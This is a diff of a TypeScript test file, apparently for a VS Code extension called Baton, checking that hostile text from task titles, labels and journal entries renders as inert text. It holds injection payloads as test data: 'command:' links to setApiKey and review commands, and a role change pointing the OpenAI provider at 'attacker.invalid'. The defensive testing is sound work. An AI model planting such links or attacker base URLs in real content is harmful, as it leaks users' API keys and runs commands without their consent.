@@ -8,12 +8,14 @@ import MarkdownIt from 'markdown-it';
 import { formatJournalMarkdown } from '../../src/core/journal/formatJournal';
 import { JournalEventSchema } from '../../src/core/journal/journalEvent';
 import { summariseJournal } from '../../src/core/journal/summariseJournal';
+import { PROVIDER_PRESETS } from '../../src/core/providers/presets';
 import { describeRoleChange } from '../../src/core/providers/roleChange';
 import { labelText, markdownText, plainText } from '../../src/core/security/untrustedText';
 import { TaskTree } from '../../src/core/tasks/taskTree';
 import { TaskTreeStore } from '../../src/core/tasks/treeStore';
 import { toTasksView } from '../../src/host/sidebar/tasksView';
 import { HostToWebview } from '../../src/protocol';
+import { attempted } from '../support/attackLedger';
 import { MemoryStateStore, steppingClock } from '../support/checkpointFixtures';
 
 const COMMAND_LINK = '[run](command:baton.selectModelForRole?%5B%22maker%22%2C%7B%22provider%22%3A%22openai%22%2C%22model%22%3A%22gpt-4o%22%2C%22baseURL%22%3A%22https%3A%2F%2Fattacker.invalid%2Fv1%22%7D%5D)';
@@ -34,11 +36,15 @@ function markdownHrefs(text: string): string[] {
   return [...markdown.render(text).matchAll(/<a href="([^"]*)"/g)].map((m) => m[1]!);
 }
 
+/** Whether the text, shown as it is, holds a live link in a notification or in Markdown. */
+const isLive = (text: string): boolean => notificationLinks(text).length > 0 || /<a /.test(markdown.render(text));
+
 describe('hostile text: what Baton shows', () => {
   it('attack command-link: a planner node title with a command link, a bare command: URI and an autolink shows no live link in a notification or in Markdown', () => {
     // The attack is real: the raw title is a live command link in both renderers.
-    assert.ok(notificationLinks(TITLE).some((href) => href.startsWith('command:baton.selectModelForRole')), 'the raw title is a notification link');
-    assert.ok(markdownHrefs(TITLE).some((href) => href.startsWith('command:')), 'the raw title is a Markdown link');
+    attempted('the raw title\'s command link is live in a notification', notificationLinks(TITLE).some((href) => href.startsWith('command:baton.selectModelForRole')));
+    attempted('the raw title\'s command link is live in Markdown', markdownHrefs(TITLE).some((href) => href.startsWith('command:baton.selectModelForRole')));
+    attempted('the raw title\'s autolink and reference link are live in Markdown', markdownHrefs(TITLE).filter((href) => href === 'command:baton.setApiKey').length === 2);
 
     const shown = plainText(`Baton: "${TITLE}" is done (checkpoint saved).`);
     assert.deepEqual(notificationLinks(shown), []);
@@ -57,20 +63,29 @@ describe('hostile text: what Baton shows', () => {
       fc.tuple(part, part).map(([a, b]) => `[${a}][${b}] [${b}]\n\n[${b}]: ${a}`),
       fc.tuple(part, part).map(([a, b]) => `<${a}:${b}>`),
     );
+    const examples: [string][] = [['[x](x-y:z)'], ['[run](command:baton.setApiKey)'], ['[x]\n\n[x]: command:baton.setApiKey']];
+    for (const [raw] of examples) attempted(`${JSON.stringify(raw)} is a live link as it is`, isLive(raw));
+    let live = 0;
     fc.assert(
       fc.property(text, (raw) => {
+        if (isLive(raw)) live += 1;
         const shown = plainText(raw);
         assert.deepEqual(notificationLinks(shown), [], shown);
         assert.doesNotMatch(markdown.render(shown), /<a /, shown);
         assert.doesNotMatch(shown, /\u202E/, 'no bidi override');
         assert.equal(shown.replaceAll('\u200B', ''), raw.replaceAll('\u202E', ''), 'only invisible breaks were added');
       }),
-      { numRuns: 3000, examples: [['[x](x-y:z)'], ['[run](command:baton.setApiKey)'], ['[x]\n\n[x]: command:baton.setApiKey']] },
+      { numRuns: 3000, examples },
     );
+    // About two in five of the generated texts are live links as they are; far fewer means the generator broke.
+    attempted(`${live} generated texts that are live links as they are`, live >= 600);
   });
 
   it('attack command-link: a checkpoint label in a picker or status bar shows no icon and stays on one line', () => {
     const label = '$(check) Approved by security\n$(shield) [ok](command:baton.review.apply)';
+    attempted('the raw label holds icons', /(^|[^\\])\$\(/.test(label));
+    attempted('the raw label holds a line break', label.includes('\n'));
+    attempted('the raw label holds a live command link', notificationLinks(label).length > 0);
     const shown = labelText(label);
     assert.doesNotMatch(shown, /(^|[^\\])\$\(/, 'every $( is escaped, so VS Code shows it as text');
     assert.doesNotMatch(shown, /\n/);
@@ -80,8 +95,9 @@ describe('hostile text: what Baton shows', () => {
   it('attack command-link: the Show Journal document renders a task title and a task id holding links as text', () => {
     const subject = { taskId: 'x`) [id](command:baton.setApiKey) (`', taskTitle: TITLE, nodeId: 'n1' };
     const events = [JournalEventSchema.parse({ v: 1, time: Date.UTC(2025, 0, 10), ...subject, kind: 'node', mode: 'delegate', source: 'plan' })];
-    const raw = `| ${TITLE} (\`${subject.taskId}\`) |`;
-    assert.ok(markdownHrefs(raw).some((href) => href.startsWith('command:')), 'the raw title and id render live links');
+    const given = events[0]!;
+    attempted('the raw task title renders live links', given.taskTitle === TITLE && markdownHrefs(`| ${given.taskTitle} |`).some((href) => href.startsWith('command:')));
+    attempted('the raw task id breaks out of its code span into a live link', markdownHrefs(`| (\`${given.taskId}\`) |`).some((href) => href.startsWith('command:')));
 
     const document = formatJournalMarkdown(summariseJournal(events));
     assert.match(document, /Fix the parser/, 'the task is in the document');
@@ -90,7 +106,10 @@ describe('hostile text: what Baton shows', () => {
   });
 
   it('attack settings-change: the question before a role changes by command arguments names the role, provider, model, the address and the key that would go there', () => {
-    const question = describeRoleChange('maker', { provider: 'openai', model: 'gpt-4.1' }, { provider: 'openai', model: 'gpt-4o', baseURL: 'https://attacker.invalid/v1' });
+    const attacker = 'https://attacker.invalid/v1';
+    const openai = PROVIDER_PRESETS.openai;
+    attempted('the change would send the OpenAI key to another address', openai.needsKey && new URL(attacker).host !== new URL(openai.defaultBaseURL).host);
+    const question = describeRoleChange('maker', { provider: 'openai', model: 'gpt-4.1' }, { provider: 'openai', model: 'gpt-4o', baseURL: attacker });
     assert.match(question.message, /change the maker role to gpt-4o \(openai\) at https:\/\/attacker\.invalid\/v1\?/);
     assert.match(question.detail, /provider: openai \(unchanged\)/);
     assert.match(question.detail, /model: gpt-4o \(now: gpt-4\.1\)/);
@@ -117,7 +136,7 @@ describe('hostile text: what Baton shows', () => {
     const shipped = new TextDecoder().decode(state.entries.get('tree.json')).replaceAll(`"${bad.node.id}"`, `"${longId}"`);
     state.entries.set('tree.json', new TextEncoder().encode(shipped));
     const loaded = (await new TaskTreeStore(state, clock).load()).tree;
-    assert.ok(loaded.has(longId), 'the over-long id really is in the tree Baton loaded');
+    attempted('a 5000-character id in the shipped tree.json, loaded by Baton', shipped.includes(`"${longId}"`) && loaded.has(longId));
 
     const tasks = toTasksView({ tree: loaded, treeError: null, selectedId: longId, history: [], checkpointError: null, roles: [] });
     assert.ok(HostToWebview.safeParse({ type: 'tasks', tasks }).success, 'the update passes the protocol check');
